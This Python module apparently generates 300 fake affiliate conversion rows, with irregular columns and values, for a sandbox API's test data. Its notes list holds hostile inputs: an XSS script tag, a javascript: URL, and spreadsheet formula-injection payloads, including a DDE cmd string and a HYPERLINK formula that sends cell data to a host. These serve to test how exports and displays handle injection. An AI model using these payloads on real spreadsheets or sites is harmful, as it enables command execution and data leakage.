"""The conversions that the token API serves: 300 rows, with odd columns and values."""

import random
from datetime import UTC, datetime, timedelta
from typing import Any

from apps.sandbox.data.seed_words import BRANDS, GOALS, MARKETS

Json = dict[str, Any]

ROW_COUNT = 300
_FIRST = datetime(2026, 10, 1, 6, 30, tzinfo=UTC)
_STATUSES = ("approved", "approved", "approved", "pending", "rejected")
# Every seventh row has one of these for its note; the others have none, null, or no such column.
_NOTES: tuple[Any, ...] = (
    '<script>alert("note")</script>',
    '=HYPERLINK("http://127.0.0.1/?leak="&A1,"Refund")',
    "+49 30 1234567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "＝1+1",
    "javascript:alert(1)",
    "שלום עולם",
    "転換 👩‍🚀 ok",
    "-12.50",
    'first line\nsecond line; with, every "delimiter"',
    "word " * 120,
    True,
    0,
)


def conversions() -> list[Json]:
    """The rows, newest first; the same at every start."""
    chance = random.Random(20261001)  # noqa: S311 - made-up data
    rows = [_conversion(number, chance) for number in range(1, ROW_COUNT + 1)]
    return rows[::-1]


def _conversion(number: int, chance: random.Random) -> Json:
    moment = _FIRST + timedelta(minutes=97 * number)
    payout = chance.randrange(50, 9000) / 100
    row: Json = {
        "conversion_id": f"cv-{number:06d}",
        "created": moment.strftime("%Y-%m-%d %H:%M:%S"),
        "offer": f"{chance.choice(BRANDS)} {chance.choice(MARKETS)}",
        "goal": chance.choice(GOALS),
        "status": chance.choice(_STATUSES),
        "payout": payout,
        "sale amount (EUR)": round(payout * chance.randrange(2, 9), 2),
        "sub_id": f"s{chance.randrange(10**6)}",
    }
    if number % 3 == 0:
        row["geo"] = {"country": chance.choice(MARKETS), "city": None, "ip": f"192.0.2.{number % 250}"}
    if number % 4 == 0:
        row["tags"] = ["mobile", "retargeting"][: number % 3]
    if number % 7 == 0:
        row["note"] = _NOTES[number // 7 % len(_NOTES)]
    if number % 10 == 0:
        row["payout"] = str(payout)  # a number as a text
    if number % 11 == 0:
        del row["goal"]
    if number % 13 == 0:
        row["payout"] = None
    if number % 50 == 0:
        row |= {"<b>Column</b>": "<i>odd</i>", "=1+1": "formula", "стоимость": -number / 10}
    return row
